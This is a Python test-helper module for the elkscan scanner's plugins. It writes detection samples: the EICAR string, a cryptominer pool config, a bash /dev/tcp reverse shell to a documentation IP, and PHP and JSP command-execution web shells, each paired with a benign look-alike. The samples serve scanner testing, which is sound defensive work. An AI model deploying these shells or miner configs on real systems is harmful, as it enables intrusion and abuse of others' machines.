"""Public helpers for testing elkscan plugins (also a pytest plugin, so nothing needs importing).

- ``eicar()`` builds the EICAR test string at run time, so no repository holds it.
- ``write_samples(directory)`` writes harmless files that the bundled rules detect, and benign
  look-alikes that they must not.
- ``run(pipeline, plugins=...)`` runs a real session with a fresh plugin manager and returns every
  record the sinks saw, through a ``Collector`` sink added to the pipeline.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import attrs

from .components import Sink
from .hookspecs import hookimpl
from .model import Record
from .pipeline import ComponentSpec, parse_pipeline
from .plugins import make_plugin_manager
from .runner import Session, Summary, build_session

_EICAR_B64 = ("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUh"
              "JEgrSCo=")


def eicar() -> bytes:
    """The 68-byte EICAR anti-virus test file, decoded at run time."""
    return base64.b64decode(_EICAR_B64)


def _j(*parts: str) -> bytes:
    """Join pieces at run time, so this module itself does not match the rules it tests."""
    return "".join(parts).encode()


#: name -> (content, detected by the bundled rules?)
SAMPLES: dict[str, tuple[bytes, bool]] = {
    "eicar.com": (eicar(), True),
    "eicar-lookalike.txt": (b"The EICAR test file is described at eicar.org; it is harmless.\n", False),
    "miner.json": (_j('{"pools": [{"url": "stratum', '+tcp://pool.example.net:3333", ',
                      '"user": "4A1234", "pass": "x"}], "donate-level": 1, "randomx": {"1gb-pages": true}}\n'),
                   True),
    "miner-lookalike.md": (b"We use the Stratum protocol docs and a donation page; no pools here.\n", False),
    "revshell.sh": (_j("#!/bin/sh\nbash -i >& /dev/", "tcp/203.0.113.7/4444 0>&1\n"), True),
    "revshell-lookalike.sh": (b"#!/bin/sh\n# checks that /dev/tcp is disabled in this shell\nbash -i\n",
                              False),
    "webshell.php": (_j("<?php @ev", "al($_PO", "ST['cmd']); ?>\n"), True),
    "webshell-lookalike.php": (b"<?php echo htmlspecialchars($_POST['name'] ?? ''); ?>\n", False),
    "webshell.jsp": (_j('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().ex',
                        'ec(request.getPara', 'meter("cmd")); %>\n'), True),
    "webshell-lookalike.jsp": (b'<% String n = request.getParameter("name"); out.print(n); %>\n', False),
}


def write_samples(directory: str | Path) -> list[Path]:
    """Write every sample into ``directory`` (created if needed); returns the paths written."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (content, _) in SAMPLES.items():
        path = directory / name
        path.write_bytes(content)
        written.append(path)
    return written


class Collector(Sink):
    """A sink that keeps every record in memory, in order."""

    id = "collect"

    def start(self) -> None:
        self.records: list[Record] = []
        self._lock = threading.Lock()

    def write(self, record: Record) -> None:
        with self._lock:
            self.records.append(record)


class _CollectorPlugin:
    @hookimpl
    def elkscan_register_sinks(self, registry) -> None:
        registry.add(Collector)


@attrs.frozen
class Result:
    """What a test session produced."""

    records: list[Record]
    summary: Summary
    session: Session

    @property
    def detected(self) -> dict[str, list[str]]:
        """Path -> signatures, for records with detections."""
        return {r.target.path: [d.signature for d in r.detections]
                for r in self.records if r.target is not None and r.detections}


def run(pipeline: Mapping[str, Any], *, extra_plugins: Iterable[object] = (), report_clean: bool = False,
        base_dir: str = ".") -> Result:
    """Run ``pipeline`` (a mapping, as the YAML would be) to its end with a collecting sink added.

    Plugins named in its ``plugins:`` are loaded from their entry points, exactly as in production;
    ``extra_plugins`` are registered as well (fake components for a test).
    """
    parsed = parse_pipeline({"version": 1, **pipeline}, "<test pipeline>", base_dir)
    parsed = attrs.evolve(parsed, sinks=(*parsed.sinks, ComponentSpec("sink", "collect", where="<test>")))
    pm = make_plugin_manager(parsed.plugins)
    pm.register(_CollectorPlugin(), name="elkscan-testing-collector")
    for index, plugin in enumerate(extra_plugins):
        pm.register(plugin, name=f"test-plugin-{index}")
    session = build_session(parsed, pm, report_clean=report_clean)
    summary = session.run()
    collector = next(s for s in session.sinks if isinstance(s, Collector))
    return Result(collector.records, summary, session)
